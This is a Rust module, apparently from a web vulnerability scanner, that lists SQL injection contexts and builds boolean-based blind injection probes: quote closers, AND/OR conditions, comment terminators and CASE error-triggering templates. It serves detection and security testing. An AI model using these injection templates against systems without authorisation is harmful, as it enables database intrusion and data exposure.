//! Where a value can stand in a statement, and how a condition is added there.
//!
//! Conditions are differences: `7401-3312=4089` is true and `3312-7401=4089` is not, and both are made of the same signs. An
//! application that looks at the signs, counts or filters them cannot tell one from the other; one that works them out can. A
//! calculator and a programming language work out differences too: so they stand where only SQL reads them, behind `AND` and
//! a single equal sign or in a `CASE`, never alone. Two texts put together (`'a'||'b'`, `'a' 'b'`) are no proof either: other languages
//! do that, and a search for words finds other ones. Neither is a server that fails at a single quote and not at two: so do
//! Ruby and Python, to which two texts side by side are one.

use model::Env;
use model::profile::Payloads;

use crate::data::point;
use crate::probe::Probe;

/// How a condition is joined to the value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Join {
    /// `value close AND condition rest`: changes no more rows than the value does.
    And,
    /// `other close OR condition rest`, where a true condition may reach every row.
    Or,
    /// The template stands in `rest`.
    Own,
}

/// What the value must be for the context to make sense.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Value {
    Any,
    Number,
    Name,
}

/// A place in a statement.
#[derive(Debug, Clone, Copy)]
pub(super) struct Context {
    pub(super) join: Join,
    pub(super) value: Value,
    pub(super) close: &'static str,
    pub(super) rest: &'static str,
    pub(super) from: Payloads,
}

const fn and(value: Value, close: &'static str, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::And, value, close, rest, from }
}

const fn or(value: Value, close: &'static str, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::Or, value, close, rest, from }
}

const fn own(value: Value, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::Own, value, close: "", rest, from }
}

use Payloads::{Light, Normal, Thorough};
use Value::{Any, Name, Number};

/// Contexts, the most common first. `LIKE` compares as `=` does and forgives a `%` that the statement adds. The absolute value of
/// the least whole number is an error wherever it is worked out, as is a query with two rows in the place of one value. None
/// that stands for itself reaches more rows than the value does: `+` makes numbers of texts in MySQL, so `TOP` keeps it out.
pub(super) const CONTEXTS: &[Context] = &[
    and(Number, "", "", Light),
    and(Any, "'", " AND 'w' LIKE 'w", Light),
    and(Any, "'", "-- -", Light),
    or(Any, "'", "-- -", Light),
    and(Any, "%'", " AND 'w' LIKE 'w", Normal),
    and(Any, "\"", " AND \"w\" LIKE \"w", Normal),
    and(Any, "')", " AND ('w' LIKE 'w", Normal),
    and(Number, ")", " AND (7=7", Normal),
    and(Any, "')", "-- -", Normal),
    and(Number, "", "-- -", Normal),
    and(Number, ")", "-- -", Normal),
    or(Any, "'", " OR 'w' LIKE 'x", Normal),
    or(Number, "", "", Normal),
    or(Any, "\"", " OR \"w\" LIKE \"x", Normal),
    or(Any, "')", "-- -", Normal),
    own(Number, "{V}-(CASE WHEN {C} THEN 0 ELSE {D} END)", Normal),
    own(Name, "{V},(CASE WHEN {C} THEN 1 ELSE abs(-9223372036854775807-1) END)", Normal),
    own(Name, "{V},(CASE WHEN {C} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)", Normal),
    own(Name, "CASE WHEN {C} THEN {V} ELSE NULL END", Normal),
    own(Name, "(CASE WHEN {C} THEN 1 ELSE -1 END)*LENGTH({V})", Normal),
    own(Any, "{V}'/**/AND/**/{C}/**/AND/**/'w'LIKE'w", Normal),
    own(Any, "{V}'||(CASE WHEN {C} THEN '' ELSE ''||abs(-9223372036854775807-1) END)||'", Normal),
    own(Any, "{V}'||(CASE WHEN {C} THEN '' ELSE ''||1/0 END)||'", Normal),
    own(Any, "{V}'&&{C}&&'1", Normal),
    own(Any, "{V}' LIKE (CASE WHEN {C} THEN 'w' ELSE (SELECT 'w' UNION SELECT 'x') END) LIKE '", Normal),
    own(
        Any,
        "{V}'+(CASE WHEN {C} THEN '' ELSE (SELECT TOP 2 w FROM (SELECT 'w' w UNION SELECT 'x')x) END)+'",
        Normal,
    ),
    and(Any, "'", "#", Thorough),
    and(Any, "%'", "-- -", Thorough),
    and(Any, "%')", "-- -", Thorough),
    and(Any, "'))", "-- -", Thorough),
    and(Any, "'))", " AND (('w' LIKE 'w", Thorough),
    and(Any, "%')", " AND ('w' LIKE 'w", Thorough),
    and(Any, "\")", " AND (\"w\" LIKE \"w", Thorough),
    and(Any, "\"", "-- -", Thorough),
    and(Number, "))", " AND ((7=7", Thorough),
    and(Any, "`", "-- -", Thorough),
    own(Number, "{V}/**/AND/**/{C}", Thorough),
    own(Number, "{V}&&{C}", Thorough),
    or(Any, "\"", "-- -", Thorough),
    or(Number, ")", "-- -", Thorough),
    or(Any, "\\' ", "-- -", Thorough),
    or(Any, "'))", "-- -", Thorough),
];

/// The three numbers of a difference: `a - b = d`, all at least 1000 so that none hides in another text.
fn difference(env: &Env) -> (u64, u64, u64) {
    let (b, d) = (1000 + env.below(4000), 1000 + env.below(4000));
    (b + d, b, d)
}

/// A difference that is true or false.
fn condition(env: &Env, yes: bool, equals: &str) -> String {
    let (a, b, d) = difference(env);
    if yes { format!("{a}-{b}{equals}{d}") } else { format!("{b}-{a}{equals}{d}") }
}

impl Context {
    /// Whether it makes sense at the point.
    pub(super) fn fits(&self, probe: &Probe<'_>) -> bool {
        let base = point::base(probe);
        let value = match self.value {
            Any => true,
            Number => point::is_number(base),
            Name => point::is_order(base) && !probe.point.value.is_empty(),
        };
        value && self.from <= probe.payloads && (self.join != Join::Or || point::may_widen(probe))
    }

    /// The payload, with random parts of its own.
    pub(super) fn payload(&self, probe: &Probe<'_>, yes: bool) -> String {
        let env = probe.client.env();
        let (close, rest) = (self.close, self.rest);
        let base = point::base(probe);
        match self.join {
            Join::And => format!("{base}{close} AND {}{rest}", condition(env, yes, "=")),
            Join::Or => {
                let other =
                    if self.value == Number { format!("-{}", 1000 + env.below(9000)) } else { probe.token() };
                format!("{other}{close} OR {}{rest}", condition(env, yes, "="))
            }
            Join::Own => self.own(probe, base, yes),
        }
    }

    fn own(&self, probe: &Probe<'_>, base: &str, yes: bool) -> String {
        let env = probe.client.env();
        self.rest
            .replace("{D}", &difference(env).2.to_string())
            .replace("{C}", &condition(env, yes, "="))
            .replace("{V}", base)
    }
}
